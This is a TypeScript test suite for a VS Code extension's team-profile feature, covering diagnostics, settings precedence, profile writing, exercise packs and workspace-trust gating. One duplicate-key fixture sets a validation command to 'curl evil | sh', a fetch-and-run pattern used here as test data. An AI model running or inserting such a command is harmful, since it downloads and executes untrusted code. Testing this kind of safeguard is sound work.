import * as assert from 'node:assert/strict';
import * as vscode from 'vscode';
import { TeamProfileLayer, type TrustSource } from '../../src/adapters/teamProfile';
import { deliberateApi, waitFor, workspaceRoot, writeWorkspaceFile } from './helpers';

const PROFILE = '.vscode/deliberate.json';

function diagnosticsOf(uri: vscode.Uri): string[] {
  return vscode.languages
    .getDiagnostics(uri)
    .filter((d) => d.source === 'Deliberate team profile')
    .map((d) => `${d.range.start.line}:${d.range.start.character} ${d.severity === vscode.DiagnosticSeverity.Error ? 'error' : 'warning'} ${d.message}`);
}

describe('team profile', () => {
  const config = () => vscode.workspace.getConfiguration('deliberate');

  afterEach(async () => {
    await config().update('coach.preset', undefined, vscode.ConfigurationTarget.Global);
  });
  after(async () => {
    await vscode.workspace.fs.delete(vscode.Uri.joinPath(workspaceRoot(), PROFILE)).then(undefined, () => undefined);
    await vscode.workspace.fs.delete(vscode.Uri.joinPath(workspaceRoot(), '.vscode/deliberate-packs'), { recursive: true }).then(undefined, () => undefined);
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
  });

  it('a profile with errors shows each problem in the Problems panel at its line, and its valid settings apply', async () => {
    const api = await deliberateApi();
    const uri = await writeWorkspaceFile(
      PROFILE,
      `{
  "coach": {
    "preset": "learner",
    "dailyBudget": -1,
    "quietHours": "after lunch"
  },
  "validation": { "commands": ["npm test"] },
  "exercise": {}
}
`,
    );
    const problems = await waitFor('the profile diagnostics', () => {
      const d = diagnosticsOf(uri);
      return d.length === 3 ? d : undefined;
    }, 15_000);
    assert.deepEqual(problems, [
      '3:19 error coach.dailyBudget: Too small: expected number to be >=0',
      '4:18 error coach.quietHours: Use HH:MM-HH:MM on the 24-hour clock, for example 18:00-09:00, or leave it empty.',
      '7:2 warning "exercise" is not part of a team profile; it is ignored.',
    ]);
    await api.profile.ready();
    assert.deepEqual(
      ['coach.preset', 'validation.commands', 'coach.dailyBudget'].map((k) => api.profile.effective(k)),
      [
        { value: 'learner', source: 'profile' },
        { value: ['npm test'], source: 'profile' },
        { value: null, source: 'default' },
      ],
    );
  });

  it('a key set twice shows a problem at both places, and neither value applies', async () => {
    const api = await deliberateApi();
    const uri = await writeWorkspaceFile(PROFILE, '{\n  "validation": {\n    "commands": ["curl evil | sh"],\n    "commands": ["npm test"]\n  },\n  "coach": { "preset": "learner" }\n}\n');
    const problems = await waitFor('the duplicate-key diagnostics', () => {
      const d = diagnosticsOf(uri);
      return d.length === 2 ? d : undefined;
    }, 15_000);
    assert.deepEqual(problems, [
      '2:4 error "commands" is set 2 times in this object: neither value applies. Keep one.',
      '3:4 error "commands" is set 2 times in this object: neither value applies. Keep one.',
    ]);
    await waitFor('the profile to apply', () => (api.profile.effective('coach.preset').value === 'learner' ? true : undefined), 15_000);
    assert.deepEqual(api.profile.effective('validation.commands'), { value: [], source: 'default' });
  });

  it("the person's own setting wins over the profile, and the profile applies again when they remove it", async () => {
    const api = await deliberateApi();
    await writeWorkspaceFile(PROFILE, '{ "coach": { "preset": "learner" } }\n');
    await waitFor('the profile to apply', () => (api.profile.effective('coach.preset').value === 'learner' ? true : undefined), 15_000);
    await config().update('coach.preset', 'quiet', vscode.ConfigurationTarget.Global);
    assert.deepEqual(api.profile.effective('coach.preset'), { value: 'quiet', source: 'user' });
    await config().update('coach.preset', undefined, vscode.ConfigurationTarget.Global);
    assert.deepEqual(api.profile.effective('coach.preset'), { value: 'learner', source: 'profile' });
  });

  it('writes a profile from the current settings, and asks before overwriting', async () => {
    const api = await deliberateApi();
    await writeWorkspaceFile(PROFILE, '{ "exercises": { "packFiles": ["team.deliberate-pack.json"] } }\n');
    await waitFor('the old profile to be read', () => (api.profile.problems()[0]?.problems.length === 0 ? true : undefined), 15_000);
    await config().update('coach.preset', 'quiet', vscode.ConfigurationTarget.Global);
    await config().update('validation.commands', ['make check'], vscode.ConfigurationTarget.Global);
    try {
      const declined = await vscode.commands.executeCommand('deliberate.writeTeamProfile', { folder: workspaceRoot(), overwrite: false, open: false });
      assert.equal(declined, undefined);
      const written = await vscode.commands.executeCommand<vscode.Uri>('deliberate.writeTeamProfile', { folder: workspaceRoot(), overwrite: true, open: false });
      const text = new TextDecoder().decode(await vscode.workspace.fs.readFile(written));
      assert.deepEqual(JSON.parse(text), {
        coach: { enabled: true, preset: 'quiet', quietHours: '', emphasis: [], markAiCode: true, codeLens: true },
        validation: { commands: ['make check'] },
        exercises: { packs: [], packFiles: ['team.deliberate-pack.json'] },
      });
    } finally {
      await config().update('validation.commands', undefined, vscode.ConfigurationTarget.Global);
    }
  });

  it("offers the exercise packs the profile ships, and shows a bad pack's problems at its line", async () => {
    const api = await deliberateApi();
    const team = {
      id: 'acme.onboarding',
      title: 'Acme onboarding',
      exercises: [{ id: 'first-suggestion', title: 'First suggestion', habit: 'iterate', summary: 'Accept one.', why: 'coaching-evidence.md, habit 1.', steps: [{ title: 'Accept a suggestion', done: { when: 'aiEdit' } }] }],
    };
    await writeWorkspaceFile('.vscode/deliberate-packs/acme.json', JSON.stringify(team, null, 2));
    const broken = await writeWorkspaceFile('.vscode/deliberate-packs/broken.json', '{\n  "id": "acme.broken",\n  "title": "Broken",\n  "exercises": []\n}\n');
    await writeWorkspaceFile(
      PROFILE,
      JSON.stringify({ exercises: { packs: ['deliberate.habits', 'acme.onboarding', 'acme.broken'], packFiles: ['.vscode/deliberate-packs/acme.json', '.vscode/deliberate-packs/broken.json'] } }),
    );
    const offered = await waitFor('the team pack to be offered', async () => {
      const packs = await api.exercises.offered();
      return packs.some((p) => p.id === 'acme.onboarding') ? packs : undefined;
    }, 15_000);
    assert.deepEqual(
      offered.map((p) => [p.id, p.source, p.exercises.length]),
      [
        ['deliberate.habits', 'built-in', 11],
        ['acme.onboarding', 'team', 1],
      ],
    );
    const problems = await waitFor('the broken pack diagnostics', () => {
      const d = vscode.languages.getDiagnostics(broken).filter((x) => x.source === 'Deliberate exercise pack');
      return d.length > 0 ? d.map((x) => `${x.range.start.line}:${x.range.start.character} ${x.message}`) : undefined;
    }, 15_000);
    assert.deepEqual(problems, ['3:15 exercises: Too small: expected array to have >=1 items']);
  });

  it('in an untrusted workspace the profile is checked but not applied, until trust is granted', async () => {
    // This pass runs with workspace trust disabled (every workspace trusted), so the grant is
    // driven through an injected trust source; workspaceTrust.untrusted.test.ts checks the
    // same gate in a real restricted-mode window.
    await writeWorkspaceFile(PROFILE, '{ "coach": { "preset": "learner" }, "exercises": { "packFiles": ["team.deliberate-pack.json"] } }\n');
    const granted = new vscode.EventEmitter<void>();
    let trusted = false;
    const trust: TrustSource = { get isTrusted() { return trusted; }, onDidGrant: (l) => granted.event(l) };
    const log = vscode.window.createOutputChannel('Deliberate trust test', { log: true });
    const layer = new TeamProfileLayer(trust, log, 'deliberate-profile-trust-test');
    try {
      await layer.ready;
      const before = { preset: layer.effective('coach.preset'), packFiles: layer.packFiles().length };
      let changes = 0;
      const sub = layer.onDidChange(() => changes++);
      trusted = true;
      granted.fire();
      sub.dispose();
      assert.deepEqual(
        { before, after: { preset: layer.effective('coach.preset'), packFiles: layer.packFiles().length }, changes },
        { before: { preset: { value: 'standard', source: 'default' }, packFiles: 0 }, after: { preset: { value: 'learner', source: 'profile' }, packFiles: 1 }, changes: 1 },
      );
    } finally {
      layer.dispose();
      log.dispose();
      granted.dispose();
    }
  });
});
